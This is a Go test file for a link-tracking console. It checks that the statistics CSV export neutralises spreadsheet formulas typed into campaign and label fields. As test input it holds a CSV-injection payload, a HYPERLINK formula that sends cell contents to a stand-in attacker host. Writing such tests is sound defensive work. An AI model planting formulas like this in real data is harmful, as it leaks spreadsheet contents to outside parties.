package console

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// The statistics CSV neutralises formulas with the same function as every
// other CSV the service writes: a campaign or label an editor typed as a
// formula reaches the spreadsheet as text.
func TestStatsCSVNeutralisesFormulas(t *testing.T) {
	const publicURL = "http://127.0.0.1:9"
	e := openConsoleEnv(t, t.TempDir()+"/c.db", publicURL)
	const campaign, label = `=HYPERLINK("http://evil.example/?d="&A1,"x")`, "@SUM(A1)"
	body, _ := json.Marshal(map[string]any{"source": "print", "campaign": campaign, "label": label, "topics": []string{"orders"}})
	resp, b := e.api("POST", "/v1/links", string(body))
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("link: %d %s", resp.StatusCode, b)
	}
	var link struct{ ID, URL string }
	json.Unmarshal(b, &link)
	req := httptest.NewRequest("GET", strings.TrimPrefix(link.URL, publicURL), nil)
	req.Header.Set("User-Agent", "Mozilla/5.0 (Linux; Android 14) Mobile")
	if resp, err := e.app.Test(req, -1); err != nil || resp.StatusCode != http.StatusFound {
		t.Fatalf("scan: %v %v", resp, err)
	}
	e.svc.FlushScans()
	e.addUser("ed@example.com", RoleEditor, editorPassword)
	ed := signInClient(t, e, "ed@example.com", editorPassword)
	for _, tc := range []struct{ group, key, label string }{
		{"campaign", "'" + campaign, "'" + campaign},
		{"link", link.ID, "'" + label},
	} {
		_, out := ed.do("GET", "/console/stats.csv?group="+tc.group+"&days=7", "", "")
		rows, err := csv.NewReader(bytes.NewReader([]byte(out))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s CSV: %v\n%s", tc.group, err, out)
		}
		if rows[1][0] != tc.key || !strings.HasPrefix(rows[1][1], tc.label) {
			t.Errorf("%s row %q, want key %q and label %q", tc.group, rows[1], tc.key, tc.label)
		}
	}
}
